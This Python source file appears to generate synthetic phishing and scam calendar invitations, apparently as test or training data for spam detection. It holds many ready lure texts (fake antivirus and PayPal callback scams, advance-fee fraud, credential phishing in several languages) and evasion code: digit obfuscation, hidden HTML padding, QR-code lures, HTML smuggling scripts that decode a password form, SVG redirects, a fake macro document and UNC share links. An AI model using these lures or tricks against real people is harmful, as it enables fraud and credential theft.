"""Tuned spam: the lures themselves. Attacks 1, 8, 17, 28, 34 to 41."""
import base64

import mail as M
import mime
import qr
import shapes as S
from families import bad_link, fill, tuned

TOLL = ("[[If you did not make this purchase|Did not authorise it?|To dispute the debit]] call {phone} [[right away|within 24 hours|today]].")


def obfuscate(text, r):
    """o for 0, l for 1, blanks and dots between: a number no pattern of digits finds."""
    table = {"0": r.choice("oO"), "1": r.choice("lI"), "5": r.choice(("5", "S"))}
    return "".join(table.get(c, c) + (r.choice(("", " ", ".")) if c.isdigit() and r.random() < .3 else "") for c in text)


def hide_phone(m):
    m.text = m.text.replace("PHONE", obfuscate(m.values["phone"].replace("+1 ", "").replace("1-", ""), m.r))


def attached(text, name):
    """A small text file beside the invitation."""
    def do(m):
        m.attachments.append(mime.part('text/plain; charset="UTF-8"; name="%s"' % name, fill(m, text), "base64", disposition='attachment; filename="%s"' % name))
    return do


# --- 35: the HTML that only some clients show --------------------------------------------------------------------------

def hidden_html(m):
    text = fill(m, "Your mailbox {rcpt} has {n2} messages held back. [[Release|Deliver|Show]] them at {link} before {date}.")
    pad = " ".join(M.token(m.r, m.r.randint(3, 9)) for _ in range(60))
    return ("<html><body><div style=\"font-size:1px;color:#ffffff;line-height:0\">%s</div>%s<span style=\"display:none\">%s</span></body></html>"
            % (pad, M.html_of(text), fill(m, "agenda minutes budget {company} weekly")))


def image_html(m):
    shots = "".join('<img alt="%s" src="data:image/png;base64,%s">' % (m.rcpt.domain, base64.b64encode(qr.picture(m.r, 24, 16)).decode()) for _ in range(m.r.randint(35, 51)))
    return fill(m, '<html><body><a href="{link}">%s</a></body></html>' % shots)


def login_html(m):
    return fill(m, '<html><body><table width="460" style="border:1px solid #ccc"><tr><td style="background:#0067b8;color:#fff;padding:12px">%s</td></tr><tr><td style="padding:20px">'
                   "<p>Hi {first},</p><p>[[Your password ends today.|A sign-in from a new place was stopped.|Keep the same password for another 90 days.]]</p>"
                   '<p><a style="background:#0067b8;color:#fff;padding:10px 20px" href="{link}?e={rcpt}">[[Keep current password|Review sign-in|Continue]]</a></p>'
                   '<p style="color:#999;font-size:10px">{company} IT</p></td></tr></table></body></html>' % m.company[0])


# --- 36: QR --------------------------------------------------------------------------------------------------------------

def qr_url(m):
    who = m.r.choice((m.rcpt.addr, base64.b64encode(m.rcpt.addr.encode()).decode().rstrip("=")))
    return m.values["link"] + m.r.choice(("?e=", "#", "?u=")) + who


def qr_inline(m):
    """The code as an inline picture of the mail."""
    cid = "image001.%s@%s" % (M.hexs(m.r, 12), m.org.domain)
    m.related.append(mime.part('image/png; name="image001.png"', qr.qr_png(qr_url(m), m.r.choice("LM"), m.r.choice((3, 4, 5))), "base64",
                               disposition='inline; filename="image001.png"', more=[("Content-ID", "<%s>" % cid)]))
    m.html = "<html><body>%s<p><img src=\"cid:%s\" width=\"180\" alt=\"\"></p></body></html>" % (M.html_of(m.text), cid)


def qr_altdesc(m):
    m.ev.altdesc = '<html><body>%s<img src="data:image/png;base64,%s"></body></html>' % (M.html_of(m.text), base64.b64encode(qr.qr_png(qr_url(m), "L", 3)).decode())


def qr_attach(m):
    m.ev.extra = m.ev.extra + ["ATTACH;FMTTYPE=image/png;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=scan-me.png:" + base64.b64encode(qr.qr_png(qr_url(m), "M", 3)).decode()]


# --- 37: files inside the calendar ---------------------------------------------------------------------------------------

def binary(name, ctype, make):
    def do(m):
        data = fill(m, make(m)) if isinstance(make(m), str) else make(m)
        data = data.encode() if isinstance(data, str) else data
        m.ev.extra = m.ev.extra + ["ATTACH;FMTTYPE=%s;ENCODING=BASE64;VALUE=BINARY;FILENAME=%s:%s" % (ctype, fill(m, name), base64.b64encode(data).decode())]
    return do


def smuggle(m):
    inner = base64.b64encode(fill(m, "<form action='{link}'><input name=p type=password value=''>{rcpt}</form>").encode()).decode()
    return ("<html><body><script>var p='%s';document.write(atob(p));</script></body></html>" % inner,
            "<html><script>const b=Uint8Array.from(atob('%s'),c=>c.charCodeAt(0));const a=document.createElement('a');a.href=URL.createObjectURL(new Blob([b]));a.download='Statement.html';a.click()</script></html>" % inner,
            "<body onload=\"document.body.insertAdjacentHTML('beforeend',decodeURIComponent(escape(window.atob('%s'))))\"></body>" % inner)[m.i % 3]


def svg(m):
    return fill(m, ("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"window.location.href='{link}#{rcpt}'\"><rect width=\"100\" height=\"40\" fill=\"#06c\"/></svg>",
                    "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\"><script type=\"text/javascript\"><![CDATA[var u=atob('%s');location=u]]></script></svg>" % base64.b64encode(m.values["link"].encode()).decode())[m.i % 2])


def ole(m):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(m.r.randrange(256) for _ in range(900)) + b"VBA_PROJECT\0AutoOpen\0" + bytes(64)


FAMILIES = [
    # 1 auto-add although the mail looks bad: full REQUEST, weak or no authentication, lure in the event
    tuned(1, "kitrequest", attacks=[1, 41, 34], by="kit-python kit-php kit-node", sender="vps", place="today", who=["Accounts Team", "Document Desk", "Mail Administrator"],
          summary=["Mandatory: mailbox upgrade {date}", "Review required - file {order}", "[[Action needed|Please confirm]] before close of business"],
          text=["Dear {name},\n\nyour mailbox {rcpt} is scheduled for an upgrade and will be closed unless you [[confirm ownership|re-validate it]] here:\n{link}\n\nMail System Operator",
                "A file was placed for you in the secure store ({order}). It is removed after the time of this event.\n\nOpen file: {link}\n\nDo not forward this entry, it is personal to {rcpt}.",
                "{first},\n\nwe were unable to process the last request. The details are kept at\n{link}\n\nPlease finish it before the reminder closes."]),
    tuned(1, "giftentry", attacks=[1, 34, 28], by="yahoo google kit-php", sender="freemail", place="soon", who=["Reward Service", "Prize Notification", "Loyalty Club"],
          summary=["Your reward is waiting 🎁", "Last reminder - unclaimed {small} voucher", "You were picked today, {first}!"],
          text=["Congratulations {first}!\n\nYour address {rcpt} was drawn as winner number {num}. Claim the [[phone|tablet|voucher]] before the calendar entry ends: {link}",
                "Only you and {n2} others got this card. It cannot be sent twice.\n\nClaim: {link}", "We tried to reach you three times about your {small} voucher. This entry is the final notice. Pick it up here {link}"]),
    tuned(1, "cryptoadd", attacks=[1, 34], by="google outlookcom kit-python", sender="freemail", who=["Wallet Notification", "BTC Payout Desk", "Cloud Mining"],
          summary=["Withdrawal of {btc} BTC approved", "Balance {btc} BTC - transfer pending", "Your mining account holds {btc} bitcoin"],
          text=["Your automatic mining account has been inactive for 364 days and holds {btc} BTC.\n\nTransfer it before it is [[deleted|returned to the pool]]:\n{link}",
                "The payout desk has approved {btc} BTC to {rcpt}. Accept the transfer here: {link}\nNetwork fee 0.0012 BTC is paid by the recipient.", "Login: {num}\nPassword: {code}\nBalance: {btc} BTC\n\nWithdraw: {link}"]),

    # 8 Google-made mail with a lure
    tuned(8, "gcalinvoice", attacks=[8, 39, 1, 28], by="google", sender="freemail", place="soon", n=6, who=["Billing Department", "PayPal Service", "Order Desk 24x7", "Norton Renewals"],
          summary=["Invoice {order} - {amount} debited", "Payment of {amount} completed 🧾", "Order #{order} Confirmation - {amount}", "Renewal receipt {order}"],
          text=["Thank you for choosing Norton LifeLock.\n\nYour three year plan has been renewed and {amount} was charged to the account on file.\n\nOrder: {order}\n[[To cancel or get a refund|If this was not you]] please reach our billing team at {phone}.",
                "Hello,\n\nyou sent a payment of {amount} to Coin Harbor LLC through PayPal.\nTransaction {order}\n\nIt will show on your statement in 24 hours. Report an unauthorised payment to {phone} (toll free).",
                "GEEK SQUAD 360 PROTECTION\nCustomer {num}\nAmount {amount}\nValid 3 years\n\nThe amount is taken automatically. [[Questions about this charge? Call|Cancel on]] {phone}\nMonday to Sunday"]),
    tuned(8, "gcalcrypto", attacks=[8, 34], by="google", sender="freemail", n=5, who=["Automatic notice", "Account Manager", "Payout center"], place="today",
          summary=["Your withdrawal request [[is ready|was accepted]]", "{btc} BTC credited, action required", "Unused balance on your account - [[final day|last call]]"],
          text=["[[Dear user|Hello]],\n\nthe sum of {btc} BTC has been reserved. Confirm your wallet to complete the transfer: {link}\n\nThis notice is generated, please do not answer.",
                "Account ID {num}\nBalance {btc} BTC\nStatus: waiting for confirmation\n\n[Go to the payout page]({link})"]),
    tuned(8, "gcalform", attacks=[8, 34, 41], by="google", sender="freemail", n=5, do=S.meet, who=["HR Benefits", "Human Resources", "Payroll Office", "People Team"],
          summary=["[[Salary|Compensation]] review {q} - acknowledge", "Benefits enrollment closes {date}", "Updated employee handbook"],
          text=["All staff of {company} are asked to confirm their payroll record before {date}.\n\nForm: {link}\n\nMissing confirmations will [[delay the next salary|be reported to your manager]].",
                "Hi {first},\n\nthe {year} handbook needs your signature. Read and sign it here: {link}\nYou will be asked for your company login.\n\nHuman Resources"]),
    tuned(8, "gcalshare", attacks=[8, 34], by="google-notice", sender="freemail", n=4, method=None, who=["Delivery Office", "Tax Refund Unit", "Parcel Hub", "Prize Team"],
          summary="A calendar was shared",
          subject=["{org} has shared a calendar with you"],
          text=["Hello {rcpt},\n\nWe are writing to let you know that {orgaddr} has given you access to view events on the Google Calendar called \"[[Parcel held: pay the duty at|Refund waiting, open|You won, claim at]] {link}\".\n\n[Click this link to add the calendar.](https://calendar.google.com/calendar/render?cid={token})\n\n- The Google Calendar Team"]),
    tuned(8, "calendlyabuse", attacks=[8, 39], by="calendly", sender="freemail", n=4, who=["Billing Support", "McAfee Order Team", "Subscription Services"], summary=["Order {order} - {amount}", "Auto renewal {amount} today"],
          text=["Your McAfee Total Protection order {order} for {amount} is complete. To stop the debit dial {phone} and keep your order number at hand.",
                "Event notes from the host:\nYour PC Care plan was extended for two years ({amount}). [[Refund desk|Cancellation line]]: {phone}"]),
    # 17 organizer is not the sender
    tuned(17, "brandcalendar", attacks=[17, 34], by="kit-python kit-php kit-node", sender="vps", who=["DocuSign", "Dropbox Sign", "Adobe Acrobat Sign"],
          do=lambda m: setattr(m.ev, "organizer", (m.org.name, "calendar@%s" % m.r.choice(("docusign.com", "adobe.com", "dropbox.com")))),
          summary=["Document {order} is ready to sign", "Please DocuSign: Agreement {num}.pdf", "Signature requested by {colleague}"],
          text=["{name},\n\n{colleague} sent you a document to review and sign.\n\n[REVIEW DOCUMENT]({link})\n\nDo not share this email: it contains a secure link.", "Agreement {num} expires {date}. Sign it at {link}", "All parties but you have signed. Finish here: {link}\nSecurity code {code}"]),
    tuned(17, "execorganizer", attacks=[17, 10, 41], by="kit-python outlook-imap kit-php", sender="junk", place="today", n=5,
          do=lambda m: setattr(m.ev, "organizer", (m.values["colleague"], "%s@%s" % (m.r.choice(("ceo", "m.director", "office.md", "chief.finance")), m.rcpt.domain))),
          summary=["Confidential: acquisition call", "Quick call today - [[urgent|private]]", "Board matter, need you for 10 minutes"],
          text=["{first}, I am in meetings and cannot talk. I need you to handle a [[transfer|payment]] before the end of the day. Read the instructions here {link} and tell nobody until it is announced.",
                "Please look at the term sheet before we speak: {link}\n\nSent from my phone", "{first},\n\nare you at your desk? The lawyer's papers are at {link}. Open them with your company login."]),
    tuned(17, "victimcalendar", attacks=[17, 1, 35], by="kit-node kit-python kit-php", sender="junk", n=4,
          do=[lambda m: setattr(m.ev, "organizer", ("Calendar", "calendar@" + m.rcpt.domain)), S.altdesc(login_html)], who=["IT Service", "{company} Calendar"],
          summary=["Password expiry for {local}", "{company} security update"],
          text=["Your {company} password expires on {date}. [[Keep it|Renew it]]: {link}", "Scheduled by {company} IT. All users must sign in once at {link} to stay connected."]),
    tuned(17, "bankorganizer", attacks=[17, 34, 41], lang="de", by="kit-php kit-python", sender="vps", who=["Kundenservice", "Ihre Hausbank", "Sicherheitszentrale"], n=4,
          do=lambda m: setattr(m.ev, "organizer", ("Sparkasse", "termine@sparkasse.de")),
          summary=["Ihr TAN-Verfahren läuft am {date} ab", "Pflichttermin: Datenabgleich"],
          text=["Sehr geehrte Kundin, sehr geehrter Kunde,\n\nIhr pushTAN-Zugang muss bis {date} bestätigt werden, sonst [[sperren wir das Konto|fällt eine Gebühr von {small} an]].\n\nJetzt bestätigen: {link}",
                "Guten Tag {name},\n\naus gesetzlichen Gründen gleichen wir Ihre Daten ab. Öffnen Sie vor dem Termin {link} und melden Sie sich an."]),

    # 28 placed so that the reminder fires now, or for ever
    tuned(28, "remindnow", attacks=[28, 39], by="google m365 yahoo", sender="freemail", place="soon", minutes=(15, 30), who=["Fraud Alert", "Card Services", "Account Watch"], n=5,
          do=S.alarms("-PT0M", "-PT5M", "PT2M"),
          summary=["ALERT: {amount} leaving your account", "Card charged {amount} - 20 minutes to stop it", "Bank debit {amount} pending"],
          text=["A purchase of {amount} at a phone store is being processed. If it was not you call {phone} NOW, later it cannot be stopped.", "Security hold on debit {amount}. Reference {order}. Speak to the fraud desk {phone} before this event starts.",
                "Final notice: {amount} is taken when this reminder rings. Desk: {phone}"]),
    tuned(28, "backdated", attacks=[28, 34, 41], by="m365 kit-python exchange", sender="tenant", place="past", n=4, do=S.alarms("-PT10M", "PT24H"),
          summary=["OVERDUE: domain renewal {domain}", "Missed: payment confirmation {order}", "Past due - voicemail of {date}"],
          text=["The renewal of {domain} was due on {date}. Mail for all users stops when the registry releases the name. Renew: {link}", "{first}, you have not reacted to the confirmation of {date}. It is kept one more day: {link}", "You missed a voice message of 0:47. Listen: {link}"]),
    tuned(28, "longbar", attacks=[28, 33, 34], by="google yahoo kit-php", sender="freemail", place="allday", minutes=(30 * 1440, 60 * 1440, 21 * 1440), n=4,
          summary=["⚠ Storage full - mail stops", "VIRUS FOUND on your phone (3)", "Cloud plan cancelled: photos deleted on {date}"],
          text=["Your cloud storage is full (99.8 %). Photos and mail will be deleted. Get 50 GB for 1.95: {link}", "(3) viruses were found. Clean the device now: {link}", "We could not renew your plan. Update the card: {link}"]),
    tuned(28, "deepnight", attacks=[28, 40], by="kit-php yahoo outlookcom", sender="freemail", place="night", n=4, who=["Barr. James Whitmore", "Mrs. Celine Adjei", "Foundation Office"],
          summary=["(no subject)", "GOOD NEWS", ""],
          text=["Attention Dear,\n\nI am a banker and have {big} USD of a client without heirs. You will receive 40 percent. Answer to my private address {orgaddr} with your full name and telephone.", "Dear Beloved, I am dying of illness and wish to donate {big} euros for the work of God through you. Write me: {orgaddr}"]),
    # 34 links
    tuned(34, "locredirect", attacks=[34, 41], by="google m365 kit-python", sender="freemail", n=5, who=["Accounts Payable", "Procurement", "Finance Share"],
          where=["https://www.google.com/url?q={link}&sa=D&source=calendar", "https://www.google.com/url?sa=t&url={link}", "https://adclick.g.doubleclick.example/pcs/click?adurl={link}"],
          summary=["Request to view invoice {order}", "Invoice {order} shared", "Statement {q} for {company}"],
          text=["{first}, the invoice is linked in the location field.", "Please open the location link to view the statement. It is protected for {rcpt}.", "Open location > sign in > view."]),
    tuned(34, "rcptparams", attacks=[34, 42], by="kit-node kit-python m365", sender="tenant", n=5,
          do=lambda m: setattr(m, "text", m.text.replace("LINK", split_params(m))),
          summary=["Secure message for {local}", "New fax, 3 pages", "Shared: {company} price list"],
          text=["You have one encrypted message.\n\nRead message: LINK\n\nIt was sent to {rcpt} only.", "Fax from {phone2}, 3 pages, {today}.\nLINK", "{org} shared a folder with {name}: LINK"]),
    tuned(34, "shortener", attacks=[34], by="google yahoo outlookcom", sender="freemail", n=4, where=["https://bit.ly/{token}"], summary=["Photos of [[you|the party]] 😲", "Is this your video?", "Someone in {company} wrote about you"],
          text=["I can't believe it's you!! look before they delete it", "who uploaded this?? https://bit.ly/3{token}", "{first} you should see this post, everybody at work has"]),
    tuned(34, "lambda", attacks=[34, 41], by="m365 kit-node", sender="tenant", n=4, summary=["RFQ {num} - drawings", "Shared project folder {order}"],
          text=["Please find drawings and terms for our RFQ {num}:\nhttps://{token}{hex}.lambda-url.us-east-1.on.aws/?d={num}\nPassword is your mail password.", "{first}, procurement shared a folder: https://{token}.workers.dev/calendar_invite-{num}\nOffers are accepted until {date}."]),
    tuned(34, "parcelfr", attacks=[34, 28], lang="fr", by="google yahoo kit-php", sender="freemail", place="soon", n=4, who=["Suivi Colis", "Relais Livraison", "Service Douane"],
          summary=["Votre colis est retenu ({small})", "Livraison impossible : frais de douane", "Dernier rappel - colis {order}"],
          text=["Bonjour,\n\nvotre colis {order} n'a pas pu être livré. Réglez {small} de frais avant le {date} : {link}\n\nSans réponse il sera renvoyé.", "Le facteur est passé. Choisissez un nouveau créneau et payez les frais : {link}"]),
    # 35
    tuned(35, "hiddenalt", attacks=[35, 34], by="kit-python m365 kit-node", sender="tenant", n=5, do=S.altdesc(hidden_html), summary=["Weekly sync", "Catch-up", "Planning {q}"], text=["Agenda to follow.", "See you there.", "As discussed."]),
    tuned(35, "imagealt", attacks=[35, 34], by="kit-node kit-python", sender="junk", n=4, do=S.altdesc(image_html), summary=["Staff notice {domain}", "Message from {company}"], text=["The content of this event is shown as a picture.", "Please view in Outlook."]),
    tuned(35, "loginalt", attacks=[35, 41, 34], by="m365 kit-php exchange", sender="tenant", n=5, do=S.altdesc(login_html), summary=["Quarterly review", "1:1 with {colleague}", "Team lunch"], text=["Short meeting.", "Agenda: open points.", "Bring your questions."]),
    tuned(35, "styled", attacks=[35, 34], by="kit-python kit-node", sender="junk", n=4,
          do=S.add("STYLED-DESCRIPTION;VALUE=TEXT;FMTTYPE=text/html:<p>Your files are leaving the archive.</p><p><a href=\"{link}\">Keep files</a></p>", "COMMENT;ALTREP=\"{link2}\":see web page"),
          summary=["Records cleanup", "Archive day"], text=["Nothing to prepare.", "Regular reminder."]),

    # 36
    tuned(36, "mfaqr", attacks=[36, 35], by="m365 kit-python exchange", sender="tenant", n=5, do=qr_inline, who=["IT Security", "Identity Team", "Microsoft 365 Admin"], summary=["Authenticator re-enrolment for {local}", "[[MFA|2FA]] reset required by {date}", "Security key renewal"],
          text=["Your multi-factor registration expires on {date}. Scan the code below with your phone camera to keep access to {rcpt}.\n\nThe code is valid for 24 hours.", "{company} is moving to a new authenticator. Scan the QR code with your mobile phone and sign in once.", "Please use your phone, this page can not be opened on a computer."]),
    tuned(36, "payqr", attacks=[36, 41], by="kit-php kit-node m365", sender="junk", n=5, do=qr_altdesc, summary=["Payslip {q} available", "Bonus letter for {name}", "Tax form {year}"],
          text=["Scan to open your personal payslip. For privacy it can be viewed on a phone only.", "Your bonus letter is behind the code. Open the camera and point at it.", "Human check: scan the code to prove you are a person, then the form opens."]),
    tuned(36, "attachqr", attacks=[36, 37], by="kit-python kit-php", sender="vps", n=4, do=qr_attach, summary=["Document waiting: scan to view", "Voice message [[0:32|1:07]]"], text=["The attachment holds a QR code. Scan it with your phone to hear the message.", "Scan the picture. Company computers are not supported."]),
    tuned(36, "parkqr", attacks=[36], lang="it", by="kit-php yahoo", sender="freemail", n=4, do=qr_inline, who=["Servizio Multe", "Ufficio Riscossione"], summary=["Sanzione non pagata {order}", "Avviso di pagamento {small}"],
          text=["Gentile {name},\n\nrisulta una sanzione di {small} non pagata. Inquadri il codice con il telefono per pagare entro il {date}, poi l'importo raddoppia.", "Per evitare il fermo del veicolo paghi oggi: inquadri il codice QR."]),
    # 37
    tuned(37, "smugglehtml", attacks=[37], by="kit-python m365 kit-node", sender="tenant", n=6, do=binary("Statement_{num}.html", "text/html", smuggle), summary=["Remittance {order}", "Statement of account {q}", "Payment advice"], text=["The payment advice is attached to this entry.", "See attached statement. It opens in your browser.", "Attached: remittance {order}."]),
    tuned(37, "svgjs", attacks=[37], by="kit-node kit-php", sender="junk", n=5, do=binary("voice_{num}.svg", "image/svg+xml", svg), summary=["New voice mail", "Signed copy {order}"], text=["Play the attached message.", "Open the attached copy."]),
    tuned(37, "olddoc", attacks=[37], by="kit-php outlook-imap", sender="company", n=5, do=binary("Order_{num}.doc", "application/msword", ole), summary=["Purchase order {num}", "Revised quotation {num}"], text=["Please see the enclosed order and confirm the price.", "Our revised order is enclosed. Enable editing to see the table."]),
    tuned(37, "unc", attacks=[37], by="kit-python m365", sender="junk", n=4, do=[S.add("ATTACH:file://{badhost}/share/agenda.docx", "ATTACH;FMTTYPE=audio/basic:\\\\\\\\{badhost}\\\\s\\\\ring.wav")], summary=["Agenda {week}", "Minutes"], text=["Agenda is linked.", "Minutes are in the share."]),

    # 38
    tuned(38, "teamsoff", attacks=[38, 34], by="m365 kit-node kit-python", sender="tenant", n=6, where=["Microsoft Teams Meeting", "Teams-Meeting ({link})"], summary=["Project handover", "Vendor onboarding - {company}", "Budget {q} call"],
          text=["________________________________________\nMicrosoft Teams meeting\nJoin on your computer, mobile app or room device\n[Click here to join the meeting]({link})\nMeeting ID: 2{num} {num}\nPasscode: {code}\nDownload Teams | Join on the web\n________________________________________",
                "{first}, we start on time. You need the current Teams client, it installs when you join:\n[Join Microsoft Teams Meeting]({link})\n\nMeeting ID {num}", "Microsoft Teams Need help?\n[Join the meeting now]({link})\nMeeting ID: 31{num}\nPasscode: {code}\n\nFor organizers: Meeting options"]),
    tuned(38, "zoomlook", attacks=[38, 34], by="kit-python outlookcom kit-php", sender="junk", n=5, where=["https://zoom-us.{badhost}/j/{num}{num}"], do=lambda m: m.ev.extra.append("X-GOOGLE-CONFERENCE:" + m.values["link"]), summary=["Investor call", "Zoom: contract talk", "Interview - second round"],
          text=["{org} is inviting you to a scheduled Zoom meeting.\n\nJoin Zoom Meeting\nhttps://zoom-us.{badhost}/j/{num}?pwd={token}\n\nMeeting ID: 8{num}\nPasscode: {code}\n\nOne tap mobile\n+1 646 555 0101,,{num}#", "Join from PC, Mac, Linux, iOS or Android: https://us02web.zoom.us.{badhost}/j/8{num}\nIf asked, update the Zoom client."]),
    tuned(38, "meetpuny", attacks=[38, 34], by="google kit-node", sender="freemail", n=4, where=["https://meet.g\u043e\u043egle.example/{token}", "https://xn--meet-ggle-13a.example/{token}"], summary=["Google Meet: [[catch-up|review]]", "Casting call"],
          text=["Video call link: https://meet.google.com.{badhost}/{token}\nThe room needs a plugin, allow it.", "Join with Google Meet\nhttps://meet-google.{badhost}/{token}"]),
    tuned(38, "confprop", attacks=[38, 34], by="m365 kit-python", sender="tenant", n=5, do=[S.add("CONFERENCE;VALUE=URI;FEATURE=AUDIO,VIDEO;LABEL=Join Teams:{link}", "X-MICROSOFT-SKYPETEAMSMEETINGURL:{link}", "X-MICROSOFT-ONLINEMEETINGEXTERNALLINK:{link2}")], where=["Microsoft Teams Meeting"],
          summary=["Security briefing", "Townhall {q}"], text=["Use the Join button.", "The Join button opens 10 minutes before. Microsoft Teams is required."]),
    tuned(38, "rmm", attacks=[38, 34], by="kit-php kit-node", sender="company", n=4, summary=["Adobe / Teams update needed for today's call", "Remote support session"],
          text=["Your Teams version is too old for this call. Download the current one before joining: {link}/TeamsSetup.msi", "Our technician will join you. Install the support client first: {link}/SupportClient.exe and give him the code {code}."]),
    # 39
    tuned(39, "norton", attacks=[39, 1], by="google m365 outlookcom", sender="freemail", n=6, who=["Norton Billing", "Subscription Desk", "NLL Support"], place="today", do=hide_phone, summary=["Norton order {order} 🛡️", "Thank you for your purchase {order}", "Auto-debit {amount} today"],
          text=["Dear Customer,\n\nyour Norton 360 subscription was renewed. {amount} will be debited within 12 hours.\n\nProduct: Norton 360 Deluxe\nTenure: 2 years\n\nCancel: call PHONE ☎", "Invoice {order}\nNorton Family Protection\nTotal {amount}\n\nNot yours? Our helpline ➡ PHONE ⬅ gives the money back the same day.", "We charged {amount} for device security. Dial PHONE and say your order {order} to [[reverse|dispute]] it."]),
    tuned(39, "paypal", attacks=[39, 8], by="google outlookcom yahoo", sender="freemail", n=6, who=["PayPal Notice", "Pay Pal Resolution", "Payment Alert"], summary=["You sent {amount} to Crypto Exchange", "PayPal: case {order} opened", "Authorisation {amount}"],
          text=["PayPal\n\nYou authorised {amount} USD to BitBarn.\nTransaction ID {order}\n\n[[Did not do this? Talk to us:|Problem with the payment? Ring]] {phone}", "A case was opened about your payment of {amount}. Our agent waits for your call on {phone}. Do not reply to this invitation.", "Funds on hold. Verify by phone {phone}, 8 am to 8 pm."]),
    tuned(39, "bitdef", attacks=[39], by="m365 kit-php", sender="tenant", n=5, who=["Bitdefender Orders", "Windows Defender Team", "Geek Support"], do=hide_phone, summary=["Bitdefender plan - {amount}", "Bill {order}", "Geek Squad renewal {date}"],
          text=["Hi {first},\n\nyour Bitdefender Total Security was upgraded for {amount}. The bank shows the debit tomorrow.\n\nBilling desk PHONE", "Windows Defender Advanced Threat Protection\nAmount due {amount}\nPaid automatically from the saved card\n\nQuestions or cancellation: PHONE", "Thank you for letting us look after your devices. {amount} for 36 months. Dial PHONE to change your mind."]),
    tuned(39, "ruscard", attacks=[39], lang="ru", by="yahoo kit-php", sender="freemail", n=4, who=["Служба безопасности", "Отдел платежей"], summary=["Списание {amount}", "Ваша карта заблокирована"],
          text=["Уважаемый клиент! С вашего счёта будет списано {amount}. Если вы не совершали покупку, срочно позвоните: {phone}.", "По карте обнаружена подозрительная операция на {amount}. Отмена только по телефону {phone}, номер заявки {num}."]),
    # 40
    tuned(40, "heir", attacks=[40], by="yahoo outlookcom google", sender="freemail", n=5, who=["Barrister Cole Anderson", "Dr. Kwame Boateng", "Ms. Lin Harriet"], summary=["", "(no subject)", "ATTENTION DEAR"],
          text=["Attention Dear,\n\nI am the attorney of a late client who bears your family name. He left {big} US dollars in a security company. As next of kin you will have 45%. Send your full name, address and phone to chambers.{token}@gmail.com so that I file the claim.",
                "Good day,\n\nI got your contact from a directory. I have a transaction of {big} USD for you. It is 100% risk free. Kindly reply to {orgaddr} for details and treat as confidential.", "Dear friend, I am an auditor at a bank in Accra. The sum of {big} dollars lies without a claim. Let us share it. Write back: {orgaddr}"]),
    tuned(40, "donation", attacks=[40], by="google yahoo kit-php", sender="freemail", n=5, who=["Mrs. Agnes Holloway", "Lottery Winner Foundation", "Mr. Karl Brandt"], summary=["Donation of {big} for you", "You are selected", "Re: my donation"],
          text=["I won the lottery and with my wife decided to give {big} euros to five strangers. You are one. Claim code {code}. Contact us at donation.{token}@outlook.com.", "Dear beneficiary,\n\nthe foundation has chosen your email for {big} USD. Give your name, age, occupation and country to {orgaddr}.", "I wrote you before about my donation of {big}. Time is short, my doctor gives me three months. Answer {orgaddr}."]),
    tuned(40, "compens", attacks=[40], by="kit-php outlookcom", sender="freemail", n=5, who=["United Compensation Office", "ATM Card Dept", "Diplomat Office"], summary=["COMPENSATION FUND {big} USD", "Your ATM card is here"],
          text=["This is to inform you that {big} USD was approved as compensation for scam victims. Your ATM VISA card will be delivered after you pay the courier fee of {small}. Contact agent at {orgaddr}.", "The diplomat with your consignment box of {big} dollars is at the airport. He needs your address and {small} for the clearance. Text him at {phone2} or write {orgaddr}."]),
    tuned(40, "loan", attacks=[40], lang="es", by="yahoo outlookcom", sender="freemail", n=5, who=["Financiera Confianza", "Sr. Prestamista"], summary=["Préstamo aprobado", "OFERTA DE CRÉDITO 2%"],
          text=["Estimado/a,\n\nofrecemos préstamos de 5.000 a {big} euros al 2 % sin aval. Solo se paga una tasa de {small} por adelantado. Escriba a {orgaddr} con nombre, país y teléfono.", "Su solicitud fue aprobada por {big} euros. Para liberar el dinero envíe {small} de seguro. Responda a {orgaddr}."]),
    # 41
    tuned(41, "payroll", attacks=[41, 34, 7], by="m365 exchange kit-node", sender="tenant", n=6, who=["HR Department", "Payroll Services", "Compensation Committee"], summary=["{year} salary adjustment - {name}", "Employee policy review", "Open enrollment ends {date}"],
          text=["Dear {first},\n\nyour updated compensation letter is available. For [[secure access|secure viewing]] use the link below with your {company} account:\n{link}\n\nPolicy review must be acknowledged before {date}.", "All employees are required to complete the policy review. Secure access: {link}\nUnacknowledged records are passed to your manager.", "The Compensation Committee finished the {year} round. View your statement: {link}"]),
    tuned(41, "domain", attacks=[41, 34, 28], by="kit-php kit-node", sender="vps", n=5, who=["Domain Registry Service", "Web Hosting Admin", "cPanel Notice"], place="soon", summary=["{domain} expires on {date}", "Renewal notice {domain}", "Final domain expiry notification"],
          text=["The domain {domain} is about to expire. Website and mail stop working after {date}.\n\nRenew for {small}: {link}", "Dear owner of {domain},\n\nthis is the last notice. Failure to pay {small} cancels the name and your search engine submission. Pay at {link}.", "cPanel: 2 services of {domain} will be suspended. Fix now: {link}"]),
    tuned(41, "bid", attacks=[41, 34], by="m365 outlook-imap", sender="company", n=5, summary=["Invitation to bid: {company}", "RFP {num} - facility works", "Tender documents {order}"],
          text=["Good morning,\n\nyou are invited to bid on the works named above. The RFP package is in the project room:\n{link}\n\nBids are due {date}. Please confirm that you intend to bid.", "Dear {name},\n\nkindly see the request for proposal and return your quotation. Documents: {link} (sign in with your work email to view)."]),
    tuned(41, "creditnote", attacks=[41, 34], lang="nl", by="m365 kit-php", sender="tenant", n=5, who=["Crediteurenadministratie", "Facturatie"], summary=["Creditnota {order}", "Openstaande factuur {amount}"],
          text=["Beste {first},\n\ner staat een creditnota van {amount} voor u klaar. Log in om het bedrag te ontvangen: {link}\n\nNa {date} vervalt het tegoed.", "Geachte heer of mevrouw,\n\nfactuur {order} is nog niet voldaan. Bekijk de factuur via {link} en betaal vandaag om incasso te voorkomen."]),
]


def split_params(m):
    """The recipient's address in base64, cut over several parameters."""
    text = base64.b64encode(m.rcpt.addr.encode()).decode().rstrip("=")
    n = max(4, len(text) // m.r.randint(3, 5))
    cut = [text[i:i + n] for i in range(0, len(text), n)]
    return bad_link(m.r, "tuned").split("?")[0] + "?" + "&".join("%s=%s" % (k, v) for k, v in zip("abcdefghij", cut))
